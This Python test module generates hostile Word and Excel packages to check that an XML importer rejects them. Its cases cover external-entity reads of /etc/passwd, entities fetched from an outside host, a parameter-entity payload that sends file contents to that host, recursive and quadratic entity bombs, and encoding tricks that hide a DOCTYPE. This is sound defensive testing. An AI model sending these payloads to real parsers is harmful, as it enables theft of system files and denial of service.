"""XML that asks for more than stands in it: entities, documents from elsewhere, encodings that hide both."""

from collections.abc import Iterator
from functools import partial

from tests.hostile import laughs
from tests.projects.hostile.case import OUTSIDE, Case
from tests.projects.hostile.packing import archive, entries
from tests.projects.hostile.sound import KINDS, MAIN, parts

_READ = {
    "word": ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"),
    "excel": (
        *("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"),
        *("xl/worksheets/sheet0.xml", "xl/styles.xml", "xl/sharedStrings.xml"),
    ),
}


def _quadratic() -> str:
    """One entity of a hundred kilobytes, named forty thousand times."""
    doctype = f'<!DOCTYPE a [<!ENTITY e "{"哈" * 33_000}">]>'
    return f'<?xml version="1.0"?>{doctype}<a>{"&e;" * 40_000}</a>'


_DOCTYPES = {
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "http": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{OUTSIDE}x">]>',
    "external DTD": f'<!DOCTYPE a SYSTEM "{OUTSIDE}x.dtd">',
    "parameter entity": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{OUTSIDE}x.dtd"> %x;]>',
    "sent out": '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
    f'<!ENTITY % x SYSTEM "{OUTSIDE}?%f;"> %x;]>',
    "recursive": '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "attribute list": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>',
}


def of_entities() -> Iterator[Case]:
    for kind in KINDS:
        for part in _READ[kind]:
            for name, doctype in _DOCTYPES.items():
                text = str(parts(kind)[part]).replace("?>", f"?>{doctype}", 1)
                text = text.replace("</", "&x;</", 1) if "ENTITY x" in doctype else text
                yield Case(f"{kind} {part} {name}", partial(with_part, kind, part, text), "DOCTYPE")
            yield Case(f"{kind} {part} laughs", partial(with_part, kind, part, laughs()), "DOCTYPE")
        quadratic = partial(_with_quadratic, kind)
        yield Case(f"{kind} quadratic", quadratic, "DOCTYPE")
        late = "<!--" + "x" * 65_500 + "-->" + _DOCTYPES["file"]
        text = str(parts(kind)[MAIN[kind]]).replace("?>", f"?>{late}", 1)
        yield Case(f"{kind} behind a chunk", partial(with_part, kind, MAIN[kind], text), "DOCTYPE")
        unknown = str(parts(kind)[MAIN[kind]]).replace("</", "&x;</", 1)
        yield Case(f"{kind} entity nobody declared", partial(with_part, kind, MAIN[kind], unknown), "损坏")


def _with_quadratic(kind: str) -> bytes:
    return with_part(kind, MAIN[kind], _quadratic())


def with_part(kind: str, part: str, data: str | bytes) -> bytes:
    return archive(entries(parts(kind) | {part: data}))


def of_encodings() -> Iterator[Case]:
    for kind in KINDS:
        text = str(parts(kind)[MAIN[kind]])
        bare = text.partition("?>")[2]
        hidden = _DOCTYPES["file"] + bare
        for name, data in {
            "utf-16": text.replace("UTF-8", "UTF-16").encode("utf-16"),
            "utf-16 without mark": text.replace("UTF-8", "UTF-16").encode("utf-16-le"),
            "utf-32": text.replace("UTF-8", "UTF-32").encode("utf-32"),
            "gbk": text.replace("UTF-8", "GBK").encode("gbk", "replace"),
            "iso-8859-1": text.replace("UTF-8", "ISO-8859-1").encode(),
            "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>' + hidden.encode("utf-7"),
            "hidden in utf-16": hidden.encode("utf-16"),
        }.items():
            yield Case(f"{kind} {name}", partial(with_part, kind, MAIN[kind], data), "UTF-8")
        for name, data in {
            "ebcdic": ('<?xml version="1.0" encoding="cp037"?><!DOCTYPE a><a/>').encode("cp037"),
            "broken utf-8": text.encode().replace("项目".encode(), b"\xe9\xa1\xff", 1),
            "overlong utf-8": text.encode().replace("项目".encode(), b"\xc0\xbc", 1),
            "surrogates": text.encode().replace("项目".encode(), b"\xed\xa0\x80", 1),
            "nul": text.encode().replace("项目".encode(), b"\0", 1),
            "nul as a sign": text.encode().replace("项目".encode(), b"&#0;", 1),
            "control": text.encode().replace("项目".encode(), b"\x08", 1),
            "control as a sign": text.encode().replace("项目".encode(), b"&#x1b;", 1),
            "beyond unicode": text.encode().replace("项目".encode(), b"&#x110000;", 1),
            "not a character": text.encode().replace("项目".encode(), b"&#xFFFE;", 1),
            "xml 1.1": text.replace('version="1.0"', 'version="9.9"').encode().replace(b"</", b"\x0c</", 1),
        }.items():
            yield Case(f"{kind} {name}", partial(with_part, kind, MAIN[kind], data), "损坏")
